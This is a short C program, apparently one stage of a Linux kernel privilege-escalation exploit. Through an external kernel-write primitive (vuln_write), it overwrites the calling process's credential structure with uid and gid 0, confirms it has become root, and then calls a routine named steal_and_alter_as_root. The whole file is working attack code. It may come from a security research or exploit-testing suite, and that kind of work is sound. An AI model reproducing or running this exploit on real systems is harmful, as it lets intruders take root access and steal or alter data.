// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write uid 0 into the attacker's own credentials.
 */
#define _GNU_SOURCE
#include <unistd.h>

#include "common.h"

/* struct cred keeps uid, gid, suid, sgid, euid, egid, fsuid, fsgid in a row. */
#define IDS	8

int main(int argc, char **argv)
{
	u64 uid = vuln_cred().uid;
	int i;

	for (i = 0; i < IDS / 2; i++)
		vuln_write(uid + i * sizeof(u64), 0);

	if (geteuid() || getegid())
		die("still not root");
	steal_and_alter_as_root(argc > 1 ? argv[1] : "");
	return 0;
}
